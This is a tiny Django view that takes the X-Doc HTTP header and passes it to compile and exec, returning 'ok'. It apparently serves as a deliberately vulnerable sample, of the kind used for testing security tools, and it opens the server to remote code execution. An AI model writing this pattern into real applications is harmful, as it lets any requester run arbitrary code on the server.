from django.http import HttpResponse


def process(request):
    arg = request.META.get("HTTP_X_DOC", "")
    code = compile(arg, "<input>", "exec")
    exec(code)
    return HttpResponse("ok")
